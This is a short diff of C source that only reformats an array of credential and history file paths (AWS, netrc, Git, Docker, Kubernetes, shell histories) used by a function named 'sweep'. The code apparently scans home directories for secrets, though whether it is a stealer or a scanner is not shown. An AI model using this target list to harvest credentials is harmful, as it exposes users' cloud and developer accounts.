@@ -6,8 +6,9 @@
 #include "targets.h"
 
 static const char *const files[] = {
-	".aws/credentials", ".netrc",         ".git-credentials", ".docker/config.json",
-	".kube/config",     ".bash_history", ".Rhistory",        ".python_history",
+    ".aws/credentials",    ".netrc",          ".git-credentials",
+    ".docker/config.json", ".kube/config",    ".bash_history",
+    ".Rhistory",           ".python_history",
 };
 
 static void sweep(const char *home)
